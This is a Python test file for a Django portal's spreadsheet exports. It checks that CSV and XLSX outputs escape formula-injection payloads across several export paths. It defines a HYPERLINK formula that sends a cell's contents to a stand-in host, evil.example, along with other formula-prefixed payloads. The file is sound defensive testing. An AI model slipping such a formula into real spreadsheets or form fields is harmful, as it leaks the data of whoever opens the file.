"""No export lets a spreadsheet run a cell as a formula (issue 9 §5): cells that begin with = + - @ are written as
text (an apostrophe in csv, a typed string cell in xlsx), one test per export."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from django.core.files.base import ContentFile
from django.test import Client
from django.urls import reverse

from campaigns import exports as campaign_exports
from campaigns import selectors as campaign_selectors
from campaigns.models import LedgerTask
from credit_portal.opendata import exports as opendata_exports
from credit_portal.spreadsheets import FORMULA_PREFIXES, csv_cell, xlsx_row
from disclosure.imports import templates
from disclosure.models import ImportJob
from tests.opendata.factories import TODAY, published_penalty
from tests.registry.factories import DepartmentFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
PAYLOADS = [EVIL, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def _csv_cells(data: bytes | str) -> list[str]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_csv_safe(data, payload: str = EVIL) -> None:
    cells = _csv_cells(data)
    assert "'" + payload in cells, "the payload must be in the export, escaped"
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)], "a cell would run as a formula"


def _assert_xlsx_safe(data: bytes, payload: str = EVIL) -> None:
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == payload for cell in cells), "the payload must be in the export, unchanged"
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_shared_guard_escapes_every_formula_prefix_and_leaves_numbers(payload):
    assert csv_cell(payload) == "'" + payload
    assert csv_cell(-5) == -5 and csv_cell("普通文本") == "普通文本" and csv_cell(None) == ""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(xlsx_row(sheet, [payload, -5]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    _assert_xlsx_safe(buffer.getvalue(), payload)


def _import_job(tmp_path, settings) -> ImportJob:
    settings.MEDIA_ROOT = tmp_path
    header = templates.headers("penalty")
    rows = [header, [EVIL] + [""] * (len(header) - 1)]
    job = ImportJob(kind="penalty", original_name="bad.csv")
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)  # an uploaded file as a department's system writes it, payload unescaped
    job.file.save("bad.csv", ContentFile(buffer.getvalue().encode()), save=False)
    job.errors = [{"row": 2, "field": "subject_name", "code": "invalid", "message": EVIL}]
    return job


def test_disclosure_error_report_csv(tmp_path, settings):
    job = _import_job(tmp_path, settings)
    _assert_csv_safe(templates.error_report(job.kind, job.errors))


def test_disclosure_error_copy_xlsx_keeps_the_text_for_re_import_but_never_as_a_formula(tmp_path, settings):
    job = _import_job(tmp_path, settings)
    _assert_xlsx_safe(templates.error_copy(job))


def test_disclosure_template_tables_escape_csv_cells():
    _assert_csv_safe(templates.write_table("csv", [["列"], [EVIL]]))


def _task(number: int, **fields) -> LedgerTask:
    values = {"section": EVIL, "description": EVIL, "responsible_text": "+区市场监管局", "is_long_term": True}
    return LedgerTask.objects.create(number=number, **{**values, **fields})


def test_campaigns_ledger_xlsx():
    _task(999)
    _assert_xlsx_safe(campaign_exports.ledger_xlsx(LedgerTask.objects.filter(number=999)))


def test_campaigns_monthly_summary_xlsx():
    _task(998, is_overdue=True)
    summary = campaign_selectors.monthly_summary(period=TODAY.replace(day=1))
    _assert_xlsx_safe(campaign_exports.summary_xlsx(summary))


def test_reports_dashboard_csv(reviewer):
    published_penalty(department=DepartmentFactory(name=EVIL, short_name="x"))
    client = Client()
    client.force_login(reviewer)
    response = client.get(reverse("dashboard-csv", kwargs={"key": "compliance"}))
    assert response.status_code == 200
    _assert_csv_safe(response.content)


def test_opendata_csv_snapshot(tmp_path):
    published_penalty(subject_name=EVIL)
    dataset = next(d for d in opendata_exports.DATASETS if d.name == "penalties")
    path = tmp_path / "penalties.csv"
    opendata_exports.write(path, dataset=dataset, fmt="csv", day=TODAY)
    _assert_csv_safe(path.read_text(encoding="utf-8-sig"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_credit_check_export(clerk, fmt):
    """The query column is whatever a clerk typed or uploaded: it comes back as text, never as a formula."""
    from sanctions import services as sanctions_services

    check, _results = sanctions_services.run_credit_check(by=clerk, matter="government_procurement", codes=[EVIL])
    client = Client()
    client.force_login(clerk)
    response = client.get(reverse("sanctions-check-export", kwargs={"pk": check.pk, "fmt": fmt}))
    assert response.status_code == 200
    if fmt == "csv":
        _assert_csv_safe(response.content)
    else:
        _assert_xlsx_safe(response.content)
